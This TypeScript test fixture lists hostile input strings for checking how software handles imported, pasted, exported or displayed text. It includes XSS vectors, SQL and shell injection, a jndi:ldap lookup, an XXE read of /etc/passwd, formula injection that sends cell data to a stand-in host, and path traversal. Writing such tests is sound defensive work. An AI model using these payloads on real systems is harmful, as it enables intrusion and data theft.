/**
 * Texts made to be taken for something else than text. One list for every test of what takes a text
 * in or hands one out: imports, pastes, exports, names of files, the screen. Markup and scripts would
 * call `hit()`, load from the host `hit.invalid`, or leave the page; tests watch for all three.
 */
export interface HostileText {
  /** What it attacks. */
  readonly name: string;
  readonly text: string;
}

const of = (kind: string, texts: Readonly<Record<string, string>>): readonly HostileText[] =>
  Object.entries(texts).map(([name, text]) => ({ name: `${kind}: ${name}`, text }));

const MARKUP = of('markup', {
  script: '<script>hit()</script>',
  'script from outside': '<script src="https://hit.invalid/a.js"></script>',
  'end of a script': '</script><script>hit()</script>',
  'comment and script in a script': '<!--<script>hit()//-->',
  'upper case': '<SCRIPT>hit()</SCRIPT>',
  'no end': '<img src=x onerror=hit() ',
  'image that fails': '<img src=x onerror="hit()">',
  'slashes for blanks': '<img/src=x/onerror=hit()>',
  'quotes out of an attribute': '" autofocus onfocus="hit()" x="',
  'single quotes out of an attribute': "' onmouseover='hit()' x='",
  'backtick out of an attribute': '`onclick=hit()`',
  'svg load': '<svg onload=hit()><script>hit()</script></svg>',
  'svg animation': '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
  'mathml link': '<math><mtext><a xlink:href="javascript:hit()">甲</a></mtext></math>',
  'mutation by a style in math': '<math><mtext><table><mglyph><style><img src onerror=hit()>',
  'noscript with an attribute': '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  'open details': '<details open ontoggle=hit()>甲</details>',
  'focus by itself': '<input autofocus onfocus=hit()>',
  'video source': '<video><source onerror=hit()></video>',
  'page in a page': '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  'object and embed': '<object data="https://hit.invalid/o"></object><embed src="//hit.invalid/e">',
  'form around all': '</form><form action="https://hit.invalid/"><button>登录</button>',
  'base of all links': '<base href="https://hit.invalid/">',
  'refresh to elsewhere': '<meta http-equiv="refresh" content="0;url=https://hit.invalid/">',
  'style sheet': '<link rel="stylesheet" href="https://hit.invalid/a.css">',
  'end of a comment': '--><img src=x onerror=hit()>',
  'end of CDATA': ']]><img src=x onerror=hit()>',
  'ends of what texts stand in': '</title></textarea></style></td></table><script>hit()</script>',
  template: '<template><script>hit()</script></template>',
  'processing instruction': '<?xml-stylesheet href="https://hit.invalid/a.xsl"?>',
});

const ADDRESSES = of('address', {
  javascript: 'javascript:hit()',
  'javascript broken by white space': ' java\tscript\n:hit()',
  'javascript in a link': '<a href="javascript:hit()">甲</a>',
  data: 'data:text/html,<script>parent.hit()</script>',
  vbscript: 'vbscript:hit()',
  'without scheme': '//hit.invalid/a.png',
  'percent signs': '%3Cscript%3Ehit()%3C/script%3E%00%0d%0a%2e%2e%2f',
});

const STYLES = of('style', {
  'end of a style': '</style><script>hit()</script>',
  expression: 'x:expression(hit())',
  import: '@import url("https://hit.invalid/a.css");',
  background: '}body{background:url(https://hit.invalid/b.png)}/*',
  escapes: '\\3c style\\3e *{display:none}',
});

const CODE = of('code', {
  'template literal': '${hit()}',
  'patterns of a replacement': "$& $` $' $1 $$ $<甲>",
  'mustache of a framework': '{{constructor.constructor("hit()")()}}',
  'our own templates': '{agency}{year}{title}',
  'a regular expression': '.*+?^${}()|[]\\/(?<甲>',
  'nested repetition': '(a+)+$',
  'quotes and backslashes': '\\"\\\'\\\\");hit();//',
  'end of a string': "';hit();//",
  'a query': "'; DROP TABLE drafts; --",
  'a shell': '$(hit) `hit` && hit | hit; hit > hit',
  'a lookup of a logger': '${jndi:ldap://hit.invalid/a}',
  'a format': '%s%n%d%@',
});

const FORMULAS = of('formula', {
  hyperlink: '=HYPERLINK("https://hit.invalid/"&A1,"甲")',
  plus: '+1+1',
  minus: '-1-1',
  at: '@SUM(1+1)',
  dde: "=cmd|'/c calc'!A0",
  'full width': '＝1＋1',
  'behind a tab': '\t=1+1',
  'behind a line break': '\n=1+1',
  'behind a quote': '\'=1+1\t"=1+1"',
});

const NAMES = of('name', {
  'the key of a prototype': '__proto__',
  'the key of a constructor': 'constructor',
  'a method all objects have': 'toString',
  'another method': 'hasOwnProperty',
  'path to a prototype': '__proto__.polluted',
  undefined: 'undefined',
  'not a number': 'NaN',
  null: 'null',
});

const NOTATIONS = of('notation', {
  json: '{"kind":"ogi-annual-report","__proto__":{"polluted":1}}',
  'end of a json text': '"}],"notes":[{"at":"',
  'escapes of json': '\\u003cscript\\u003e\\ud800\\u0000',
  entities: '&lt;script&gt; &#60;img&#62; &amp;amp; &nbsp;&ThickSpace;',
  'entity without end': '&lt &#x3c &#0; &#xD800;',
  'xml entity': '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  'xml entities by the million': '<!ENTITY a "&b;&b;&b;"><!ENTITY b "&c;&c;&c;">&a;',
  cdata: '<![CDATA[<script>hit()</script>]]>',
  'field of a word processor': '{ INCLUDETEXT "https://hit.invalid/a" } <w:t>甲</w:t>',
});

const CHARACTERS = of('character', {
  nul: '甲\u0000乙',
  controls: '\u0001\u0008\u000b\u000c\u000e\u001b[2J\u001f\u007f甲\u0080\u009f',
  'markup behind a control': '<\u0000script>hit()</script\u0000>',
  'half a pair, first': '甲\ud800乙',
  'half a pair, second': '甲\udc00乙',
  'halves the wrong way round': '\udc00\ud800',
  noncharacters: '甲\ufffe\uffff\ufdd0乙',
  'right to left': '\u202e告报开公息信\u202c甲',
  'isolates without end': '\u2066\u2067\u2068甲',
  'zero width': '甲\u200b\u200c\u200d\u2060\u00ad乙',
  'marks on one sign': `甲${'\u0300\u0489'.repeat(60)}乙`,
  'byte order marks': '\ufeff甲\ufeff乙',
  'line separators': '甲\u2028乙\u2029丙\u0085丁',
  'carriage returns': '甲\r乙\n\n丙',
  'a head for http': '甲\r\nSet-Cookie: hit=1',
  'odd blanks': '\u00a0甲\u3000\u2007\u202f乙\u1680',
  'family of emoji': '👨‍👩‍👧‍👦🏳️‍🌈🇨🇳',
  'rare signs': '㐂𠮷𫟼\u{e0001}\u{e0061}',
  'tags nobody sees': '\u{e003c}\u{e0073}\u{e003e}甲',
  'private use': '甲\ue000\u{f0000}乙',
  'signs that turn into markup': '＜script＞hit（）＜/script＞ \u226e\u0338',
  'signs that grow with case': 'ﬀßİŉǰΐ',
});

const FILES = of('file', {
  'way up': '../../../etc/passwd',
  'way up for Windows': '..\\..\\Windows\\win.ini',
  folder: '甲/乙',
  'refused by Windows': '甲:*?"<>|乙',
  'a device': 'CON',
  'a device with an end': 'con.',
  'a device with a number': 'COM1.txt',
  'a device with a raised number': 'LPT¹ .甲',
  'a stream': '甲::$DATA',
  hidden: '.htaccess',
  'blank and dot at the end': '甲. . ',
  'another ending, turned round': '甲\u202enosj.exe',
  'a variable': '%TEMP%\\$HOME~',
  'an address': 'file:///c:/甲',
  'an option': '--help',
});

const SIZES = of('size', {
  'a long word': '字'.repeat(3_000),
  'a long number': '9'.repeat(3_000),
  'long blanks': `甲${' '.repeat(3_000)}乙`,
  'many lines': '甲\n'.repeat(300),
  'many tags': '<b>'.repeat(700),
  'many brackets': '（('.repeat(1_000),
});

/** All of them; no two are equal, and each is under 4,000 characters. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...MARKUP,
  ...ADDRESSES,
  ...STYLES,
  ...CODE,
  ...FORMULAS,
  ...NAMES,
  ...NOTATIONS,
  ...CHARACTERS,
  ...FILES,
  ...SIZES,
];
